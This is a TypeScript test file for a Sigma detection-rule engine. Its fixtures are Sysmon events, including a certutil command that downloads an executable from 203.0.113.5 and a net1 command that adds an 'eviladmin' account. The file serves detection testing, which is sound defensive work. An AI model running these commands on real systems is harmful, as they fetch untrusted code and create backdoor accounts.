import { expandPaths } from '../validate';
import { getPipeline } from '../pipelines';
import { CORPUS } from '../test-support/rules';
import { RuleSet } from './ruleset';

const corpusFiles = expandPaths([`${CORPUS}/rules/windows/process_creation`, `${CORPUS}/rules/windows/network_connection`]);

const sysmon = (eventId: number, data: Record<string, unknown>): Record<string, unknown> => ({
  Event: { System: { EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws-017.city.local' }, EventData: data },
});

const events = [
  sysmon(1, {
    Image: 'C:\\Windows\\System32\\certutil.exe',
    OriginalFileName: 'CertUtil.exe',
    CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    User: 'CITY\\bob',
  }),
  sysmon(1, {
    Image: 'C:\\Windows\\System32\\net1.exe',
    OriginalFileName: 'net1.exe',
    CommandLine: 'net1 user eviladmin P@ss1 /add',
    ParentImage: 'C:\\Windows\\System32\\net.exe',
    User: 'CITY\\bob',
  }),
  sysmon(1, {
    Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
    CommandLine: '"C:\\Program Files\\Mozilla Firefox\\firefox.exe"',
    ParentImage: 'C:\\Windows\\explorer.exe',
    User: 'CITY\\alice',
  }),
  sysmon(3, { Image: 'C:\\Windows\\System32\\certutil.exe', DestinationIp: '203.0.113.5', DestinationPort: 80, Initiated: 'true' }),
];

describe('RuleSet', () => {
  const indexed = new RuleSet({ pipelines: [getPipeline('windows')] });
  const naive = new RuleSet({ pipelines: [getPipeline('windows')], mode: 'naive' });
  const loaded = indexed.addFiles(corpusFiles);
  naive.addFiles(corpusFiles);

  test('loads every SigmaHQ process_creation and network_connection rule', () => {
    expect(loaded.rejected).toEqual([]);
    expect(indexed.size).toBe(loaded.loaded);
  });

  test('indexed matching (logsource routing + literal prefilter) finds exactly what naive evaluation finds', () => {
    for (const e of events) {
      const expected = naive
        .match(e)
        .map((m) => m.ruleId)
        .sort();
      expect(
        indexed
          .match(e)
          .map((m) => m.ruleId)
          .sort(),
      ).toEqual(expected);
      expect(
        indexed
          .match(e, {
            category: (e.Event as { System: { EventID: number } }).System.EventID === 1 ? 'process_creation' : 'network_connection',
            product: 'windows',
          })
          .map((m) => m.ruleId)
          .sort(),
      ).toEqual(expected);
    }
  });

  test('a certutil download is reported with title, level, tags and the fields that matched', () => {
    const hit = indexed.match(events[0] as Record<string, unknown>).find((m) => m.title === 'Suspicious Download Via Certutil.EXE');
    expect(hit).toMatchObject({ level: 'medium', tags: expect.arrayContaining(['attack.t1105']) });
    expect(hit?.matchedFields.sort()).toEqual([
      'Event.EventData.CommandLine',
      'Event.EventData.Image',
      'Event.EventData.OriginalFileName',
      'Event.System.Channel',
      'Event.System.EventID',
    ]);
  });

  test('a benign browser start matches no high or critical rule', () => {
    expect(indexed.match(events[2] as Record<string, unknown>).filter((m) => m.level === 'high' || m.level === 'critical')).toEqual([]);
  });

  test('logsource routing keeps network rules away from process events', () => {
    const routed = indexed.match(events[0] as Record<string, unknown>, { category: 'network_connection', product: 'windows' });
    expect(routed).toEqual([]);
  });
});
